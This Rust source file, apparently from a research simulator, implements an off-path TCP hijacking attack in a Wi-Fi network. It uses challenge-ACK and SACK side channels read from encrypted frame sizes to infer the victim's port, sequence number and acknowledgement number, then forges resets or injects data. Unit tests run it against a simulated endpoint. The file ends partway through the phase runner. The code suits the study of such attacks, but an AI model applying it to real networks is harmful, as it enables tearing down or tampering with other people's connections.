//! Off-path inference engine.
//!
//! The attacker sees nothing but forged-segment transmission and the
//! sizes, addresses and timestamps of encrypted frames. Everything here
//! goes through [`ProbeTransport`]; no endpoint state is ever read.

use std::collections::BTreeMap;
use std::fmt;
use std::net::Ipv4Addr;

use rand::Rng;
use rand::SeedableRng;
use rand_chacha::ChaCha8Rng;
use serde::{Deserialize, Serialize};
use thiserror::Error;

use crate::seqspace::ModSpace;
use crate::tcp::{FourTuple, SegmentMeta};
use crate::wifi::{filter_frames, FrameObservation, Mac, VirtualTime};

/// Observable frame sizes with default options (Table-style alphabet).
pub const RST_FRAME: u32 = 56;
pub const ACK_FRAME: u32 = 68;
pub const SACK_FRAME: u32 = 80;

#[derive(Clone, Copy, PartialEq, Eq, Debug, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum SackPortMode {
    /// Switch to SACK-based port inference when a 68-byte flood is seen.
    Auto,
    Always,
    Never,
}

#[derive(Clone, Debug, Serialize, Deserialize)]
#[serde(default)]
pub struct InferenceConfig {
    /// Repetition count for multiple verification.
    pub k_verify: u32,
    /// Per-probe observation window; None means 2*rtt plus the contention
    /// upper bound, resolved by the scenario.
    pub observe_timeout_ms: Option<f64>,
    /// Inclusive client-port sweep interval.
    pub port_start: u16,
    pub port_end: u16,
    /// Sweep start offset into the port range (the order is ascending,
    /// rotated by this offset).
    pub port_sweep_offset: u16,
    pub probe_pacing_pps: f64,
    pub sniffer_count: u32,
    pub sack_port_mode: SackPortMode,
    /// Bounded re-inference for shifting windows / lossy predicates.
    pub seq_retries: u32,
    pub ack_retries: u32,
    /// Re-check the converged value with fresh probes before accepting it.
    pub final_verify: bool,
    /// Only count frames arriving inside the transport's response window
    /// (RTT-gated sniffing); off means the whole observation window.
    pub gate_responses: bool,
}

impl Default for InferenceConfig {
    fn default() -> Self {
        InferenceConfig {
            k_verify: 3,
            observe_timeout_ms: None,
            port_start: 32768,
            port_end: 60999,
            port_sweep_offset: 0,
            probe_pacing_pps: 50.0,
            sniffer_count: 1,
            sack_port_mode: SackPortMode::Auto,
            seq_retries: 2,
            ack_retries: 2,
            final_verify: true,
            gate_responses: true,
        }
    }
}

impl InferenceConfig {
    pub fn port_range_len(&self) -> u32 {
        self.port_end as u32 - self.port_start as u32 + 1
    }

    pub fn validate(&self) -> Result<(), String> {
        if self.k_verify == 0 {
            return Err("k_verify must be >= 1".into());
        }
        if self.port_end < self.port_start {
            return Err("port range is empty".into());
        }
        if self.probe_pacing_pps <= 0.0 {
            return Err("probe_pacing must be positive".into());
        }
        Ok(())
    }
}

/// Frame-size tallies over one observation window.
#[derive(Clone, Copy, Default, Debug, PartialEq, Eq)]
pub struct Observation {
    pub saw_56: u32,
    pub saw_68: u32,
    pub saw_80: u32,
    pub other: u32,
    pub window: (VirtualTime, VirtualTime),
}

impl Observation {
    pub fn from_frames(frames: &[FrameObservation], victim: Mac) -> Observation {
        let mut o = Observation::default();
        if let (Some(first), Some(last)) = (frames.first(), frames.last()) {
            o.window = (first.t, last.t);
        }
        for f in filter_frames(frames, victim) {
            match f.observable_len {
                RST_FRAME => o.saw_56 += 1,
                ACK_FRAME => o.saw_68 += 1,
                SACK_FRAME => o.saw_80 += 1,
                _ => o.other += 1,
            }
        }
        o
    }

    pub fn saw(&self, len: u32) -> bool {
        match len {
            RST_FRAME => self.saw_56 > 0,
            ACK_FRAME => self.saw_68 > 0,
            SACK_FRAME => self.saw_80 > 0,
            _ => false,
        }
    }

    pub fn any_response(&self) -> bool {
        self.saw_56 + self.saw_68 + self.saw_80 + self.other > 0
    }

    pub fn describe(&self) -> String {
        if !self.any_response() {
            return "none".to_string();
        }
        let mut parts = Vec::new();
        if self.saw_56 > 0 {
            parts.push(format!("56x{}", self.saw_56));
        }
        if self.saw_68 > 0 {
            parts.push(format!("68x{}", self.saw_68));
        }
        if self.saw_80 > 0 {
            parts.push(format!("80x{}", self.saw_80));
        }
        if self.other > 0 {
            parts.push(format!("otherx{}", self.other));
        }
        parts.join("+")
    }
}

#[derive(Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Debug, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Phase {
    Scan,
    Port,
    Seq,
    AckWindow,
    AckBoundary,
    Action,
}

impl fmt::Display for Phase {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Phase::Scan => "scan",
            Phase::Port => "port",
            Phase::Seq => "seq",
            Phase::AckWindow => "ack_window",
            Phase::AckBoundary => "ack_boundary",
            Phase::Action => "action",
        };
        write!(f, "{s}")
    }
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum Outcome {
    Success,
    Failure(Phase),
    Inconclusive(Phase),
}

impl fmt::Display for Outcome {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Outcome::Success => write!(f, "success"),
            Outcome::Failure(p) => write!(f, "failure:{p}"),
            Outcome::Inconclusive(p) => write!(f, "inconclusive:{p}"),
        }
    }
}

impl Outcome {
    pub fn is_success(&self) -> bool {
        matches!(self, Outcome::Success)
    }
}

/// Inference outcomes plus probe/byte/virtual-time accounting.
#[derive(Clone, Debug)]
pub struct AttackReport {
    pub victim: Option<(Mac, Ipv4Addr)>,
    pub port_found: Option<u16>,
    pub rcv_nxt_found: Option<u32>,
    pub ack_lower_found: Option<u32>,
    pub ack_usable: Option<u32>,
    pub probes_sent: u64,
    pub bytes_sent: u64,
    pub virtual_time: VirtualTime,
    pub phase_times: BTreeMap<Phase, VirtualTime>,
    pub outcome: Outcome,
    pub timed_out: bool,
    pub sack_mode_used: bool,
}

impl AttackReport {
    /// Attacker bytes at the Ethernet view per virtual second, in KB/s.
    pub fn bandwidth_kbps(&self) -> f64 {
        if self.virtual_time.0 == 0 {
            return 0.0;
        }
        (self.bytes_sent as f64 / 1024.0) / self.virtual_time.seconds()
    }
}

#[derive(Clone, Copy, Debug)]
pub struct ProbeLabel {
    pub phase: Phase,
    pub guess: u64,
}

#[derive(Error, Debug, PartialEq, Eq)]
pub enum TransportError {
    #[error("scenario duration limit exceeded")]
    DeadlineExceeded,
}

/// Everything the attacker may do: transmit forged segments and observe
/// encrypted frames. Implementations must never leak endpoint state.
pub trait ProbeTransport {
    fn now(&self) -> VirtualTime;
    fn space(&self) -> ModSpace;
    fn observe_timeout(&self) -> VirtualTime;
    /// Offsets from the probe send time bounding when a genuine response
    /// can arrive (round trip plus channel contention). Attackers know
    /// this from RTT estimation and use it to gate out unrelated traffic.
    fn response_window(&self) -> (VirtualTime, VirtualTime);
    /// Broadcast ARP in the WLAN; empty under AP isolation.
    fn arp_scan(&mut self) -> Result<Vec<(Mac, Ipv4Addr)>, TransportError>;
    /// Transmit one forged segment and return every frame observed on the
    /// victim's channel within the observation window.
    fn probe(
        &mut self,
        seg: &SegmentMeta,
        label: ProbeLabel,
    ) -> Result<Vec<FrameObservation>, TransportError>;
    /// Passive sniffing for a duration, no transmission.
    fn listen(&mut self, dur: VirtualTime) -> Result<Vec<FrameObservation>, TransportError>;
    fn probes_sent(&self) -> u64;
    fn bytes_sent(&self) -> u64;
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub enum PortResult {
    Found(u16),
    NotFound,
    Inconclusive,
}

/// Adds half the sequence space to the challenge-window lower boundary.
pub fn derive_usable_ack(space: ModSpace, lower: u32) -> u32 {
    space.add(lower, space.half())
}

/// The payload action closing the attack.
#[derive(Clone, Debug, PartialEq)]
pub enum AttackAction {
    Reset,
    Inject { payload: Vec<u8> },
}

pub struct Attacker<'a, T: ProbeTransport + ?Sized> {
    io: &'a mut T,
    cfg: InferenceConfig,
    victim_mac: Mac,
    rng: ChaCha8Rng,
    /// Fixed random ack carried by seq-inference data probes. If it ever
    /// lands in the acceptable window the 1-byte acceptance only shifts
    /// rcv_nxt forward, which the final verification step absorbs.
    probe_ack: u32,
    /// Set when a 68-byte flood is on the air: single 68 observations are
    /// then ambiguous and ACK-keyed predicates demand two concurring
    /// rounds before counting a positive.
    flooded: bool,
}

impl<'a, T: ProbeTransport + ?Sized> Attacker<'a, T> {
    pub fn new(io: &'a mut T, cfg: InferenceConfig, victim_mac: Mac, seed: u64) -> Self {
        let mut rng = ChaCha8Rng::seed_from_u64(seed);
        let probe_ack = rng.gen::<u32>() & io.space().mask();
        Attacker { io, cfg, victim_mac, rng, probe_ack, flooded: false }
    }

    pub fn set_flooded(&mut self, flooded: bool) {
        self.flooded = flooded;
    }

    pub fn io(&mut self) -> &mut T {
        self.io
    }

    fn round(&mut self, seg: &SegmentMeta, label: ProbeLabel) -> Result<Observation, TransportError> {
        let t_send = self.io.now();
        let mut frames = self.io.probe(seg, label)?;
        if self.cfg.gate_responses {
            let (lo, hi) = self.io.response_window();
            frames.retain(|f| f.t.0 >= t_send.0 + lo.0 && f.t.0 <= t_send.0 + hi.0);
        }
        Ok(Observation::from_frames(&frames, self.victim_mac))
    }

    /// Sends the forged segment up to k_verify times; true as soon as a
    /// victim-addressed frame of exactly `expected_len` shows up.
    pub fn probe_and_observe(
        &mut self,
        seg: &SegmentMeta,
        expected_len: u32,
        label: ProbeLabel,
    ) -> Result<bool, TransportError> {
        // Under a 68-byte flood a single stray ACK-sized frame can slip
        // through the arrival gate, so require two concurring rounds.
        let need = if self.flooded && expected_len == ACK_FRAME { 2 } else { 1 };
        let mut hits = 0u32;
        for _ in 0..self.cfg.k_verify.max(need) {
            if self.round(seg, label)?.saw(expected_len) {
                hits += 1;
                if hits >= need {
                    return Ok(true);
                }
            }
        }
        Ok(false)
    }

    fn ports(&self) -> Vec<u16> {
        let mut v: Vec<u16> = (self.cfg.port_start..=self.cfg.port_end).collect();
        let off = (self.cfg.port_sweep_offset as usize) % v.len();
        v.rotate_left(off);
        v
    }

    fn forged_tuple(&self, victim_ip: Ipv4Addr, server: (Ipv4Addr, u16), port: u16) -> FourTuple {
        FourTuple {
            client_ip: victim_ip,
            client_port: port,
            server_ip: server.0,
            server_port: server.1,
        }
    }

    /// Challenge-ACK port sweep: a forged SYN/ACK on the right tuple
    /// reflects a 68-byte frame to the victim; a wrong tuple reflects 56.
    pub fn infer_port(
        &mut self,
        victim: (Mac, Ipv4Addr),
        server: (Ipv4Addr, u16),
    ) -> Result<PortResult, TransportError> {
        let sp = self.io.space();
        let mut totals = Observation::default();
        let mut saw_ambiguous = false;
        for _pass in 0..self.cfg.k_verify {
            for port in self.ports() {
                let tuple = self.forged_tuple(victim.1, server, port);
                let seg = SegmentMeta::syn_ack(
                    tuple,
                    self.rng.gen::<u32>() & sp.mask(),
                    self.rng.gen::<u32>() & sp.mask(),
                );
                let label = ProbeLabel { phase: Phase::Port, guess: port as u64 };
                let obs = self.round(&seg, label)?;
                totals.saw_56 += obs.saw_56;
                totals.saw_68 += obs.saw_68;
                totals.saw_80 += obs.saw_80;
                totals.other += obs.other;
                if obs.saw_68 > 0 {
                    match self.verify_port(&seg, label)? {
                        PortVerdict::Confirmed => return Ok(PortResult::Found(port)),
                        PortVerdict::Negative => {}
                        PortVerdict::Ambiguous => saw_ambiguous = true,
                    }
                }
            }
        }
        if saw_ambiguous {
            return Ok(PortResult::Inconclusive);
        }
        // No 68 anywhere. If the alphabet looks collapsed or shifted (a
        // padding/uniformization defense), the sweep is inconclusive
        // rather than a clean miss.
        if totals.saw_68 == 0 && (totals.other > 0 || (totals.saw_56 == 0 && totals.saw_80 > 0)) {
            return Ok(PortResult::Inconclusive);
        }
        Ok(PortResult::NotFound)
    }

    fn verify_port(
        &mut self,
        seg: &SegmentMeta,
        label: ProbeLabel,
    ) -> Result<PortVerdict, TransportError> {
        for _ in 0..self.cfg.k_verify {
            let obs = self.round(seg, label)?;
            if obs.saw_68 > 0 && obs.saw_56 == 0 {
                return Ok(PortVerdict::Confirmed);
            }
            if obs.saw_56 > 0 && obs.saw_68 == 0 {
                return Ok(PortVerdict::Negative);
            }
            // Both or neither: re-probe.
        }
        Ok(PortVerdict::Ambiguous)
    }

    /// SACK-based port sweep, immune to empty-ACK (68-byte) floods: two
    /// data probes at seq and seq + half guarantee that the correct tuple
    /// elicits an 80-byte SACK-ACK from at least one of the pair, except
    /// when rcv_nxt coincides with a probe seq; shifting the base between
    /// passes covers that corner.
    pub fn infer_port_sack(
        &mut self,
        victim: (Mac, Ipv4Addr),
        server: (Ipv4Addr, u16),
    ) -> Result<PortResult, TransportError> {
        let sp = self.io.space();
        let base = self.rng.gen::<u32>() & sp.mask();
        let mut totals = Observation::default();
        for pass in 0..self.cfg.k_verify {
            let s = sp.add(base, pass);
            for port in self.ports() {
                let tuple = self.forged_tuple(victim.1, server, port);
                let label = ProbeLabel { phase: Phase::Port, guess: port as u64 };
                for seq in [s, sp.add(s, sp.half())] {
                    let seg = SegmentMeta::data(tuple, seq, self.probe_ack, vec![0]);
                    let obs = self.round(&seg, label)?;
                    totals.saw_56 += obs.saw_56;
                    totals.saw_68 += obs.saw_68;
                    totals.saw_80 += obs.saw_80;
                    totals.other += obs.other;
                    if obs.saw_80 > 0 {
                        // 80 only ever comes from a genuine SACK-ACK.
                        return Ok(PortResult::Found(port));
                    }
                }
            }
        }
        if totals.saw_80 == 0 && totals.other > 0 {
            return Ok(PortResult::Inconclusive);
        }
        Ok(PortResult::NotFound)
    }

    /// True iff a 1-byte data probe at seq = x elicits a SACK-ACK, i.e. x
    /// lies strictly behind rcv_nxt within the half-space lookback.
    fn seq_predicate(&mut self, tuple: FourTuple, x: u32) -> Result<bool, TransportError> {
        let seg = SegmentMeta::data(tuple, x, self.probe_ack, vec![0]);
        self.probe_and_observe(&seg, SACK_FRAME, ProbeLabel { phase: Phase::Seq, guess: x as u64 })
    }

    /// Modular binary search for the exact rcv_nxt.
    ///
    /// The SACK region [rcv_nxt - half + 1, rcv_nxt - 1] holds half - 1
    /// values, so the candidate interval shrinks slightly asymmetrically;
    /// the probe offset is chosen so both constraint intersections stay
    /// contiguous. At most bits + 1 predicate evaluations.
    pub fn infer_seq(&mut self, tuple: FourTuple) -> Result<Option<u32>, TransportError> {
        let sp = self.io.space();
        for _attempt in 0..=self.cfg.seq_retries {
            let found = self.infer_seq_once(tuple)?;
            if !self.cfg.final_verify {
                return Ok(Some(found));
            }
            // A positive predicate is definitive (an 80-byte frame cannot
            // appear spuriously); only missed positives corrupt the
            // search, so re-check both sides of the boundary. The
            // negative side is double-checked: absence of a frame is the
            // lossy direction.
            if self.seq_predicate(tuple, sp.sub(found, 1))?
                && !self.seq_predicate(tuple, found)?
                && !self.seq_predicate(tuple, found)?
            {
                return Ok(Some(found));
            }
        }
        Ok(None)
    }

    fn infer_seq_once(&mut self, tuple: FourTuple) -> Result<u32, TransportError> {
        let sp = self.io.space();
        let half = sp.size() / 2;
        let mut lo: u32 = 0;
        let mut len: u64 = sp.size();
        while len > 1 {
            // m >= len - half keeps the negative-branch intersection
            // contiguous; below half a plain midpoint bisects.
            let m: u64 = if len > half { len - half } else { (len - 1) / 2 };
            let x = sp.add(lo, m as u32);
            if self.seq_predicate(tuple, x)? {
                // rcv_nxt in [x + 1, x + half - 1], relative [m+1, m+half-1].
                let hi_rel = (m + half - 1).min(len - 1);
                lo = sp.add(lo, (m + 1) as u32);
                len = hi_rel - m;
            } else {
                // rcv_nxt in [x - half, x] intersected: relative [0, m].
                len = m + 1;
            }
        }
        Ok(lo)
    }

    /// True iff a 1-byte data probe at an acceptable seq with ack = x gets
    /// any ACK back (challenge window or acceptable window); invalid acks
    /// are silently discarded.
    fn ack_predicate(
        &mut self,
        tuple: FourTuple,
        seq_probe: u32,
        x: u32,
        phase: Phase,
    ) -> Result<bool, TransportError> {
        let seg = SegmentMeta::data(tuple, seq_probe, x, vec![0]);
        self.probe_and_observe(&seg, ACK_FRAME, ProbeLabel { phase, guess: x as u64 })
    }

    /// Probes the four quarter points of the ack space; the challenge
    /// window spans more than a quarter of it, so one of them must hit.
    pub fn locate_challenge_window(
        &mut self,
        tuple: FourTuple,
        seq_probe: u32,
    ) -> Result<Option<u32>, TransportError> {
        let sp = self.io.space();
        let quarter = (sp.size() / 4) as u32;
        let c = self.rng.gen::<u32>() & sp.mask();
        for i in 0..4u32 {
            let ack = sp.add(c, i.wrapping_mul(quarter));
            if self.ack_predicate(tuple, seq_probe, ack, Phase::AckWindow)? {
                return Ok(Some(ack));
            }
        }
        Ok(None)
    }

    /// Binary search over (ack_challenge - half, ack_challenge] for the
    /// smallest ack still eliciting a response. The responding region
    /// [snd_una - half + 1, snd_nxt] is contiguous and contains
    /// ack_challenge, so the predicate is monotone along the interval.
    pub fn find_ack_lower_boundary(
        &mut self,
        tuple: FourTuple,
        seq_probe: u32,
        ack_challenge: u32,
    ) -> Result<Option<u32>, TransportError> {
        let sp = self.io.space();
        let half = sp.size() / 2;
        for _attempt in 0..=self.cfg.ack_retries {
            // d = distance below ack_challenge; pred(d) true for d <= D.
            let mut lo: u64 = 0;
            let mut hi: u64 = half - 1;
            while lo < hi {
                let mid = (lo + hi + 1) / 2;
                if self.ack_predicate(tuple, seq_probe, sp.sub(ack_challenge, mid as u32), Phase::AckBoundary)? {
                    lo = mid;
                } else {
                    hi = mid - 1;
                }
            }
            let lower = sp.sub(ack_challenge, lo as u32);
            if !self.cfg.final_verify {
                return Ok(Some(lower));
            }
            if self.ack_predicate(tuple, seq_probe, lower, Phase::AckBoundary)?
                && !self.ack_predicate(tuple, seq_probe, sp.sub(lower, 1), Phase::AckBoundary)?
            {
                return Ok(Some(lower));
            }
        }
        Ok(None)
    }

    /// lower + half, nudged down by one if the exact value turns out to
    /// sit just past snd_nxt (the quiescent snd_una == snd_nxt case).
    pub fn confirm_usable_ack(
        &mut self,
        tuple: FourTuple,
        seq_probe: u32,
        lower: u32,
    ) -> Result<Option<u32>, TransportError> {
        let sp = self.io.space();
        let cand = derive_usable_ack(sp, lower);
        for c in [cand, sp.sub(cand, 1)] {
            if self.ack_predicate(tuple, seq_probe, c, Phase::AckBoundary)? {
                return Ok(Some(c));
            }
        }
        Ok(None)
    }

    /// Forged RST with the inferred rcv_nxt. A challenge ACK back means
    /// the state shifted since inference; silence is presumed success.
    pub fn hijack_reset(&mut self, tuple: FourTuple, rcv_nxt: u32) -> Result<bool, TransportError> {
        let seg = SegmentMeta::rst(tuple, rcv_nxt);
        let obs = self.round(&seg, ProbeLabel { phase: Phase::Action, guess: rcv_nxt as u64 })?;
        if obs.saw_68 > 0 && !self.flooded {
            return Ok(false); // challenge ACK: state moved since inference
        }
        // Confirm the teardown out of band: a SYN/ACK on a live tuple
        // draws a challenge ACK, on a torn-down one a RST (56).
        let mask = self.io.space().mask();
        let confirm = SegmentMeta::syn_ack(
            tuple,
            self.rng.gen::<u32>() & mask,
            self.rng.gen::<u32>() & mask,
        );
        let label = ProbeLabel { phase: Phase::Action, guess: rcv_nxt as u64 };
        for _ in 0..self.cfg.k_verify {
            let obs = self.round(&confirm, label)?;
            if obs.saw_56 > 0 {
                return Ok(true);
            }
            if obs.saw_68 > 0 && !self.flooded {
                return Ok(false);
            }
        }
        Ok(false)
    }

    /// Forged data with the inferred seq/ack; the acceptance ACK (68)
    /// confirms the payload entered the stream.
    pub fn hijack_inject(
        &mut self,
        tuple: FourTuple,
        seq: u32,
        ack: u32,
        payload: Vec<u8>,
    ) -> Result<bool, TransportError> {
        if payload.is_empty() {
            return Ok(true); // pure ACK, nothing to do
        }
        let seg = SegmentMeta::data(tuple, seq, ack, payload);
        for _ in 0..self.cfg.k_verify {
            self.round(&seg, ProbeLabel { phase: Phase::Action, guess: seq as u64 })?;
            // Landing is confirmed out of band: once the payload is in the
            // stream the original seq sits behind rcv_nxt and a re-probe
            // there draws the old-duplicate SACK (80), which the flood
            // cannot fake.
            if self.seq_predicate(tuple, seq)? {
                return Ok(true);
            }
        }
        Ok(false)
    }
}

enum PortVerdict {
    Confirmed,
    Negative,
    Ambiguous,
}

/// Runs the whole four-step attack and fills the report accounting.
pub fn full_attack<T: ProbeTransport + ?Sized>(
    io: &mut T,
    cfg: &InferenceConfig,
    victim_hint: Option<Ipv4Addr>,
    server: (Ipv4Addr, u16),
    action: &AttackAction,
    seed: u64,
) -> AttackReport {
    let t0 = io.now();
    let mut report = AttackReport {
        victim: None,
        port_found: None,
        rcv_nxt_found: None,
        ack_lower_found: None,
        ack_usable: None,
        probes_sent: 0,
        bytes_sent: 0,
        virtual_time: VirtualTime(0),
        phase_times: BTreeMap::new(),
        outcome: Outcome::Failure(Phase::Scan),
        timed_out: false,
        sack_mode_used: false,
    };

    let outcome = run_phases(io, cfg, victim_hint, server, action, seed, &mut report);
    report.outcome = match outcome {
        Ok(o) => o,
        Err(TransportError::DeadlineExceeded) => {
            report.timed_out = true;
            report.outcome // phase recorded by run_phases as it went
        }
    };
    report.probes_sent = io.probes_sent();
    report.bytes_sent = io.bytes_sent();
    report.virtual_time = VirtualTime(io.now().0 - t0.0);
    report
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::harness::DirectTransport;
    use crate::tcp::{FourTuple, OptionsProfile, ServerConnState};

    const BITS: u32 = 12;

    fn tuple(port: u16) -> FourTuple {
        FourTuple {
            client_ip: Ipv4Addr::new(192, 168, 1, 100),
            client_port: port,
            server_ip: Ipv4Addr::new(203, 0, 113, 10),
            server_port: 443,
        }
    }

    fn conn(space: ModSpace, port: u16, rcv_nxt: u32, snd_una: u32, unacked: u32) -> ServerConnState {
        let wnd = ((space.size() / 8) as u32).max(1);
        ServerConnState::new(
            tuple(port),
            rcv_nxt,
            wnd,
            snd_una,
            space.add(snd_una, unacked),
            wnd,
            OptionsProfile::default(),
            space,
        )
        .unwrap()
    }

    fn cfg_lossless() -> InferenceConfig {
        InferenceConfig {
            k_verify: 1,
            final_verify: false,
            port_start: 40_000,
            port_end: 40_015,
            ..InferenceConfig::default()
        }
    }

    #[test]
    fn infer_seq_exact_over_entire_reduced_space() {
        let space = ModSpace::new(BITS);
        for rcv_nxt in 0..space.size() as u32 {
            let mut io = DirectTransport::new(space, 5);
            io.add_conn(conn(space, 40_000, rcv_nxt, 100, 0));
            let mac = io.victim_mac();
            let mut atk = Attacker::new(&mut io, cfg_lossless(), mac, 99);
            let before = atk.io.probes_sent();
            let found = atk.infer_seq(tuple(40_000)).unwrap();
            let used = atk.io.probes_sent() - before;
            assert_eq!(found, Some(rcv_nxt), "rcv_nxt={rcv_nxt}");
            assert!(used <= (BITS + 1) as u64, "rcv_nxt={rcv_nxt} used {used}");
        }
    }

    #[test]
    fn infer_seq_survives_heavy_loss_with_verification() {
        let space = ModSpace::new(BITS);
        let mut exact = 0;
        let total = 40;
        for i in 0..total {
            let rcv_nxt = (i as u32 * 97 + 13) & space.mask();
            let mut io = DirectTransport::new(space, 1000 + i);
            io.set_loss(0.3);
            io.add_conn(conn(space, 40_000, rcv_nxt, 7, 0));
            let mac = io.victim_mac();
            let cfg = InferenceConfig { k_verify: 3, ..InferenceConfig::default() };
            let mut atk = Attacker::new(&mut io, cfg, mac, i);
            match atk.infer_seq(tuple(40_000)).unwrap() {
                Some(v) => {
                    assert_eq!(v, rcv_nxt, "verified result must be exact (trial {i})");
                    exact += 1;
                }
                None => {}
            }
        }
        assert!(exact * 10 >= total * 8, "only {exact}/{total} recovered");
    }

    #[test]
    fn port_sweep_finds_only_the_real_port() {
        let space = ModSpace::new(BITS);
        let mut io = DirectTransport::new(space, 3);
        io.add_conn(conn(space, 40_007, 500, 600, 0));
        let (mac, ip) = (io.victim_mac(), io.victim_ip());
        let cfg = cfg_lossless();
        let range = cfg.port_range_len() as u64;
        let mut atk = Attacker::new(&mut io, cfg, mac, 11);
        let r = atk.infer_port((mac, ip), (Ipv4Addr::new(203, 0, 113, 10), 443)).unwrap();
        assert_eq!(r, PortResult::Found(40_007));
        assert!(atk.io.probes_sent() <= range + 1);
    }

    #[test]
    fn port_sweep_reports_not_found_without_a_connection() {
        let space = ModSpace::new(BITS);
        let mut io = DirectTransport::new(space, 3);
        let (mac, ip) = (io.victim_mac(), io.victim_ip());
        let mut atk = Attacker::new(&mut io, cfg_lossless(), mac, 11);
        let r = atk.infer_port((mac, ip), (Ipv4Addr::new(203, 0, 113, 10), 443)).unwrap();
        assert_eq!(r, PortResult::NotFound);
    }

    #[test]
    fn sack_port_sweep_finds_the_real_port() {
        let space = ModSpace::new(BITS);
        for seed in 0..8u64 {
            let mut io = DirectTransport::new(space, seed);
            let rcv_nxt = (seed as u32 * 509 + 1) & space.mask();
            io.add_conn(conn(space, 40_003, rcv_nxt, 0, 0));
            let (mac, ip) = (io.victim_mac(), io.victim_ip());
            let cfg = InferenceConfig { k_verify: 3, ..cfg_lossless() };
            let mut atk = Attacker::new(&mut io, cfg, mac, seed);
            let r = atk.infer_port_sack((mac, ip), (Ipv4Addr::new(203, 0, 113, 10), 443)).unwrap();
            assert_eq!(r, PortResult::Found(40_003), "seed {seed}");
        }
    }

    #[test]
    fn ack_phase_recovers_a_usable_ack() {
        let space = ModSpace::new(BITS);
        // Both a quiescent connection (snd_una == snd_nxt) and one with
        // data in flight.
        for (i, unacked) in [(0u64, 0u32), (1, 40), (2, 200)].into_iter() {
            let snd_una = (i as u32 * 1111 + 17) & space.mask();
            let rcv_nxt = (i as u32 * 777 + 5) & space.mask();
            let mut io = DirectTransport::new(space, 60 + i);
            io.add_conn(conn(space, 40_000, rcv_nxt, snd_una, unacked));
            let mac = io.victim_mac();
            let mut atk = Attacker::new(&mut io, cfg_lossless(), mac, 42 + i);
            let t = tuple(40_000);
            let seq_probe = space.add(rcv_nxt, 1);
            let c = atk.locate_challenge_window(t, seq_probe).unwrap().expect("window hit");
            let lower = atk.find_ack_lower_boundary(t, seq_probe, c).unwrap().expect("boundary");
            // The respond-68 region's lower edge is snd_una - half + 1.
            assert_eq!(lower, space.add(space.sub(snd_una, space.half()), 1), "case {i}");
            let usable = atk.confirm_usable_ack(t, seq_probe, lower).unwrap().expect("usable");
            let st = atk.io.endpoint.get(&t).unwrap();
            assert_eq!(
                crate::tcp::classify_ack(st, usable),
                crate::tcp::AckClass::Acceptable,
                "case {i}"
            );
        }
    }

    #[test]
    fn derive_usable_ack_adds_half_the_space() {
        let sp = ModSpace::FULL;
        assert_eq!(derive_usable_ack(sp, 1), 0x8000_0001);
        assert_eq!(derive_usable_ack(sp, 0x9000_0000), 0x1000_0000);
        let sp = ModSpace::new(16);
        assert_eq!(derive_usable_ack(sp, 3), 0x8003);
    }

    #[test]
    fn observation_tallies_and_describes_frames() {
        use crate::wifi::FrameKind;
        let mac_v: Mac = "02:00:00:00:00:01".parse().unwrap();
        let mac_a: Mac = "02:00:00:00:00:02".parse().unwrap();
        let mac_x: Mac = "02:00:00:00:00:03".parse().unwrap();
        let f = |len: u32, addr1: Mac| FrameObservation {
            addr1,
            addr2: mac_a,
            channel: 1,
            observable_len: len,
            t: VirtualTime(5),
            kind: FrameKind::Data,
            amsdu: false,
        };
        let frames = vec![f(56, mac_v), f(68, mac_v), f(68, mac_x), f(144, mac_v)];
        let obs = Observation::from_frames(&frames, mac_v);
        assert_eq!((obs.saw_56, obs.saw_68, obs.saw_80, obs.other), (1, 1, 0, 1));
        assert!(obs.saw(RST_FRAME) && obs.saw(ACK_FRAME) && !obs.saw(SACK_FRAME));
        assert_eq!(obs.describe(), "56x1+68x1+otherx1");
        assert_eq!(Observation::from_frames(&[], mac_v).describe(), "none");
    }
}

fn run_phases<T: ProbeTransport + ?Sized>(
    io: &mut T,
    cfg: &InferenceConfig,
    victim_hint: Option<Ipv4Addr>,
    server: (Ipv4Addr, u16),
    action: &AttackAction,
    seed: u64,
    report: &mut AttackReport,
) -> Result<Outcome, TransportError> {
    let sp = io.space();
    let mut phase_start = io.now();
    let mut close_phase = |report: &mut AttackReport, phase: Phase, now: VirtualTime| {
        report.phase_times.insert(phase, VirtualTime(now.0 - phase_start.0));
        phase_start = now;
    };

    // Step 1: probe alive supplicants.
    report.outcome = Outcome::Failure(Phase::Scan);
    let supplicants = io.arp_scan()?;
    let victim = match victim_hint {
        Some(ip) => supplicants.iter().find(|(_, sip)| *sip == ip).copied(),
        None => supplicants.first().copied(),
    };
    close_phase(report, Phase::Scan, io.now());
    let victim = match victim {
        Some(v) => v,
        None => return Ok(Outcome::Failure(Phase::Scan)),
    };
    report.victim = Some(victim);

    let mut attacker = Attacker::new(io, cfg.clone(), victim.0, seed);

    // Step 2: connection (client port) detection.
    report.outcome = Outcome::Failure(Phase::Port);
    // A 68-byte flood on the victim's channel with no probe in flight
    // means empty-ACK background traffic; later ACK-keyed predicates then
    // demand concurring observations.
    let timeout = attacker.io.observe_timeout();
    let idle = attacker.io.listen(VirtualTime(timeout.0 * 5))?;
    let flooded = Observation::from_frames(&idle, victim.0).saw_68 > 0;
    attacker.set_flooded(flooded);
    let use_sack = match cfg.sack_port_mode {
        SackPortMode::Always => true,
        SackPortMode::Never => false,
        SackPortMode::Auto => flooded,
    };
    report.sack_mode_used = use_sack;
    let port_result = if use_sack {
        attacker.infer_port_sack(victim, server)?
    } else {
        attacker.infer_port(victim, server)?
    };
    close_phase(report, Phase::Port, attacker.io.now());
    let port = match port_result {
        PortResult::Found(p) => p,
        PortResult::NotFound => return Ok(Outcome::Failure(Phase::Port)),
        PortResult::Inconclusive => return Ok(Outcome::Inconclusive(Phase::Port)),
    };
    report.port_found = Some(port);
    let tuple = FourTuple {
        client_ip: victim.1,
        client_port: port,
        server_ip: server.0,
        server_port: server.1,
    };

    // Step 3: exact sequence number.
    report.outcome = Outcome::Failure(Phase::Seq);
    let rcv_nxt = match attacker.infer_seq(tuple)? {
        Some(v) => v,
        None => return Ok(Outcome::Failure(Phase::Seq)),
    };
    close_phase(report, Phase::Seq, attacker.io.now());
    report.rcv_nxt_found = Some(rcv_nxt);

